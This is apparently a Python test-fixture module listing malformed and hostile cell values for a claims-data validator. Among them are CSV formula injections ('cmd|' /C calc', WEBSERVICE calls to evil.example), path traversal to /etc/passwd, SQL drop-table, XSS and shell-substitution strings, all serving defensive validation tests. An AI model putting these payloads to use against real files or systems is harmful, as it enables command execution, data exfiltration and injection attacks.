"""Texts that spreadsheets, keyboards, attackers and other alphabets put into cells, by type of column."""

from __future__ import annotations

from hostile.cases import SOUND, cells

TARGET = "tbpn-openai-16gw,"
INPUT = "power,2025,supply,additions,1,"

NUMBERS = [
    *cells("claims", TARGET, "value", "not_a_number", ["1e400", "9" * 400, "1_000", "1,000", "1.000,5", "1'000"]),
    *cells("claims", TARGET, "value", "not_a_number", ["٣", "\uff13", "½", "²", "Ⅷ", "十六", "\u221216"]),
    *cells("claims", TARGET, "value", "not_a_number", ["nan", "NaN", "inf", "Infinity", "0x10", "1e", "16."]),
    *cells(
        "claims",
        TARGET,
        "value",
        "not_a_number",
        ["16 GW", "16%", "$16", "1/2", "TRUE", "'16", "16e", "1.2.3"],
    ),
    *cells("claims", TARGET, "value", "not_a_number", ["#REF!", "#DIV/0!", "N/A", "null", "16-18", "~16"]),
    *cells("claims", TARGET, "value", "formula not_a_number", ["+16", "=16", "--16", "-inf"]),
    *cells("claims", TARGET, "value", "spaces_around not_a_number", [" 16", "16 ", "16\u00a0", "\u300016"]),
    *cells(
        "claims",
        TARGET,
        "value",
        "control_character not_a_number",
        ["16\n", "1\u200b6", "\ufeff16", "16\x7f"],
    ),
    *cells("claims", TARGET, "value", "not_a_number cell_too_long", ["9" * 100_000]),
    *cells("claims", TARGET, "value", SOUND, ["-0", "0", "0e-400", "0.0", ".5", "16E0", "0016", "1e-30"]),
    *cells("claims", TARGET, "value", "size_of_no_figure", ["1e-400", "1e-310", "-1e-31", "1e-324", ".1e-30"]),
    *cells("claims", TARGET, "value", "size_of_no_figure", ["1e31", "-2e30", "1e308"]),
    *cells("claims", TARGET, "value", "not_a_number", ["-2+3", "-1,600", "-2*3", "-1-1"]),
    *cells("sites", "barber-lake,", "latitude", "too_small", ["-90.01", "-1e30"]),
    *cells("sites", "barber-lake,", "longitude", "too_large", ["180.01", "1e30"]),
    *cells("constraint_inputs", INPUT, "weight", "too_small", ["0", "-1"]),
    *cells("constraint_inputs", INPUT, "alternative", "not_an_integer", ["1.0", "1e0", "\uff11", "9" * 20, "I"]),
    *cells("constraint_inputs", INPUT, "year", "too_small", ["1999", "-2025", "0"]),
    *cells("constraint_inputs", INPUT, "year", "too_large", ["2101", "20250"]),
]

DAYS = [
    *cells("claims", TARGET, "made_on", "not_a_date", ["2026-02-30", "2026-13", "2026-00", "2026-02-00", "0000"]),
    *cells(
        "claims",
        TARGET,
        "made_on",
        "not_a_date",
        ["12/31/2026", "31.12.2025", "2026/02/03", "20260203", "46056"],
    ),
    *cells("claims", TARGET, "made_on", "not_a_date", ["2026-2-3", "26-02-03", "Feb 2026", "2026-W06", "2026-H1"]),
    *cells("claims", TARGET, "made_on", "not_a_date", ["2026-02-03T00:00", "٢٠٢٦", "1949", "2201-01-01", "today"]),
    *cells("claims", TARGET, "made_on", "in_the_future", ["2026-11-26", "2026-12", "2027", "2200-12-31"]),
    *cells("claims", TARGET, "made_on", SOUND, ["2026", "2026-11", "2026-11-25", "2024-02-29"]),
    *cells(
        "claims",
        TARGET,
        "period",
        "not_a_period",
        ["2028-Q5", "2028-Q0", "2028-H3", "2028-q1", "2028Q1", "Q1"],
    ),
    *cells("claims", TARGET, "period", "not_a_period", ["2028/", "/2028", "2026/2027/2028", "2026\u20132028"]),
    *cells(
        "claims",
        TARGET,
        "period",
        "not_a_period",
        ["FY2028", "2026-2028", "2027-02-29", "2028-Q1-Q2", "end of 2028"],
    ),
    *cells(
        "claims",
        TARGET,
        "period",
        "period_backwards",
        ["2028/2026", "2026-12/2026-01", "2026-12-31/2026-12-30"],
    ),
    *cells("claims", TARGET, "period", SOUND, ["2028-02-29", "2026/2028", "2026-H2/2028-Q1", "2200"]),
]

IDS = [
    *cells(
        "claims",
        TARGET,
        "subject_id",
        "unknown_id",
        ["OpenAI", "OPENAI", "open-ai", "0penai", "openai.", "null"],
    ),
    *cells(
        "claims",
        TARGET,
        "subject_id",
        "unknown_id",
        ["\u043epenai", "open\u0430i", "opena\u0131", "\uff4fpenai"],
    ),
    *cells(
        "claims",
        TARGET,
        "subject_id",
        "unknown_id",
        ["openai\u0301", "../../etc/passwd", "'; drop table claims; --"],
    ),
    *cells("claims", TARGET, "subject_id", "spaces_around unknown_id", ["openai ", " openai", "openai\u2003"]),
    *cells(
        "claims",
        TARGET,
        "subject_id",
        "control_character unknown_id",
        ["openai\u200b", "open\u00adai", "openai\n"],
    ),
    *cells(
        "claims",
        TARGET,
        "claim_id",
        "id_form",
        ["Tbpn", "tbpn openai", "tbpn/openai", "tbpn|openai", ".tbpn", "_x"],
    ),
    *cells(
        "claims",
        TARGET,
        "claim_id",
        "id_form",
        ["tb\u0440n", "tbpn-\u00f6", "\ufb01rm", "\uff54bpn", "tbpn;--", "tbpn$"],
    ),
    *cells("claims", TARGET, "claim_id", "formula id_form", ["-tbpn", "=tbpn", "@tbpn"]),
    *cells("claims", TARGET, "claim_id", "duplicate_key", ["tbpn-hopper-failures"]),
    *cells("claims", TARGET, "claim_id", "required", [""]),
    *cells("claims", TARGET, "claim_id", SOUND, ["0", "a.b_c-d", "x" * 500]),
    *cells("claims", TARGET, "unit", "unknown_id", ["gw", "Gw", "GW.", "G\u0412"]),
    *cells("claims", TARGET, "unit", "unit_dimension", ["USD", "kW_per_tonne"]),
    *cells(
        "claims",
        TARGET,
        "kind",
        "allowed_value",
        ["Target", "TARGET", "t\u0430rget", "target;actual", "plan"],
    ),
    *cells("claims", TARGET, "region", "allowed_value", ["Global", "USA", "us", "EU27"]),
    *cells("claims", TARGET, "qualifier", "not_a_qualifier", ["node=", "node", "node=N3;area=PJM", "a==b"]),
    *cells(
        "claims",
        TARGET,
        "qualifier",
        "not_a_qualifier",
        ["Node=N3", "node=N3; node", "node=a=b", "n\u043ede=N3"],
    ),
]

ADDRESSES = [
    *cells(
        "sources",
        "tbpn-",
        "url",
        "not_a_url",
        ["javascript:alert(1)", "data:text/html,<b>", "file:///etc/passwd"],
    ),
    *cells(
        "sources",
        "tbpn-",
        "url",
        "not_a_url",
        ["http://", "https://localhost", "//x.example/", "www.x.example"],
    ),
    *cells(
        "sources",
        "tbpn-",
        "url",
        "not_a_url",
        ["https://x.example/a b", 'https://x.example/"onclick="x', "ftp://x.y/"],
    ),
    *cells(
        "sources",
        "tbpn-",
        "url",
        "not_a_url",
        ["https://x.example/<script>", "https://x.example\\@evil.example/"],
    ),
    *cells("sources", "tbpn-", "url", "cell_too_long", ["https://" + "a." * 50_000 + "b"]),
    *cells("sources", "tbpn-", "url", "not_a_url cell_too_long", ["https://" + "a." * 50_000 + " b"]),
    *cells("sources", "tbpn-", "url", SOUND, ["HTTPS://X.EXAMPLE/A?b=c&d=%20#e", "https://b\u00fccher.example/"]),
]

TEXTS = [
    *cells(
        "claims",
        TARGET,
        "notes",
        "formula",
        ["=1+1", "+1", "@SUM(A1)", "-cmd|' /C calc'!A0", "\t=1+1", "=\n1"],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        "formula",
        ["-2+3+cmd|' /C calc'!A0", '-1*WEBSERVICE("https://evil.example")', "-5 percent", "-.5.5", "-1e", "--1"],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        "formula",
        ["\uff1d1+1", "\uff0b1", "\uff201", '=HYPERLINK("https://evil.example")'],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        "control_character",
        ["two\nlines", "bell\x07", "\x1b[31mred", "a\x85b", "\x01"],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        "control_character",
        ["\u202eevil", "\u2066x", "zero\u200bwidth", "\u2028", "a\u2060b"],
    ),
    *cells("claims", TARGET, "notes", "cell_too_long", ["x" * 20_001, "x" * 100_000, "\U0001f680" * 100_000]),
    *cells("claims", TARGET, "notes", "spaces_around", [" ", "x ", "\u00a0x", "x\u3000"]),
    *cells(
        "claims",
        TARGET,
        "notes",
        SOUND,
        ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a & b &amp; c"],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        SOUND,
        ["'; drop table claims; --", "$$; copy claims to 'x'; $$", "/* */ -- x"],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        SOUND,
        ["{{ env_var('HOME') }}", "{% raw %}", "${HOME}", "`id`", "%s %n {0}", "C:\\x"],
    ),
    *cells(
        "claims",
        TARGET,
        "notes",
        SOUND,
        ["NULL", "None", 'a "quoted" word', "a, comma", "\U0001f680", "مليار", "中文"],
    ),
    *cells("claims", TARGET, "notes", SOUND, ["-5", "-0.5", "-", "x" * 20_000, "NaN", "0", "true", '"', "\\"]),
]

CELLS = [*NUMBERS, *DAYS, *IDS, *ADDRESSES, *TEXTS]
